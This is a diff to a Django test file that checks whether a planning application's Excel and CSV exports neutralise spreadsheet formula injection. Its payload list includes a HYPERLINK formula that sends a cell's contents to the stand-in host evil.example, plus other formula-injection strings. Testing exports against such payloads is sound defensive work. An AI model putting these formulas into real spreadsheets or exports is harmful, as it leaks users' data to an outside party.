@@ -16,7 +16,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from oneplan.core import excel
-from oneplan.plans.models import Element, Plan
+from oneplan.plans.models import Plan
 from oneplan.testing.factories import UserFactory
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1",
@@ -44,9 +44,19 @@ def admin_client(db):
     return client
 
 
+def draft_copy(key: str, new_key: str) -> Plan:
+    """A draft copy of a demo plan (the demo plans are in force, hence frozen): same tree, projects,
+    budgets and links."""
+    from oneplan.plans.interchange import dump_plan, load_plan
+
+    data = dump_plan(Plan.objects.get(key=key))
+    data["plan"].update(key=new_key, status="draft", supersedes=None)
+    return load_plan(data).plan
+
+
 @pytest.fixture
 def poisoned_plan(db):
-    plan = Plan.objects.get(key=KEY)
+    plan = draft_copy(KEY, "t-inject-copy")
     plan.title_th = PAYLOADS[0]
     plan.save()
     payloads = cycle(PAYLOADS)
@@ -104,8 +114,7 @@ def test_edition_diff(admin_client, poisoned_plan):
     from oneplan.governance import services
 
     old = Plan.objects.get(key="phuket-provincial-2561-2564")
-    old.status = "in_force"
-    old.save()
+    assert old.status == "in_force"
     new = services.start_edition(old, admin_user(), edition_type="review", reason="ทดสอบ")
     for element, payload in zip(new.elements.order_by("id")[:len(PAYLOADS)], PAYLOADS, strict=False):
         element.title_th = payload
@@ -137,12 +146,16 @@ def test_linkage_coverage(admin_client, poisoned_plan):
     assert PAYLOADS[0] in values  # the plan's title
 
 
-def test_framework_csv_exports(admin_client, db, tmp_path):
-    from oneplan.frameworks import registry
+def test_framework_csv_exports(admin_client, db, tmp_path, monkeypatch):
+    """Framework titles are official texts (frozen in the database); the writers are tested with
+    rows whose titles are payloads."""
+    from oneplan.frameworks import export, views
+    from oneplan.frameworks.management.commands import frameworks as command
 
-    framework = registry.plan_in_force("smart-city")
-    for element, payload in zip(framework.elements.order_by("id"), PAYLOADS, strict=False):
-        Element.objects.filter(pk=element.pk).update(title_th=payload)
+    real = export.framework_rows("smart-city")
+    poisoned = [{**row, "title_th": payload} for row, payload in zip(real, cycle(PAYLOADS), strict=False)]
+    monkeypatch.setattr(views, "framework_rows", lambda code: poisoned)
+    monkeypatch.setattr(command, "framework_rows", lambda code: poisoned)
     fields = _csv_fields(_get(admin_client, "/frameworks/smart-city.csv").decode("utf-8-sig"))
     assert IN_CSV <= set(fields)
     out = tmp_path / "smart-city.csv"
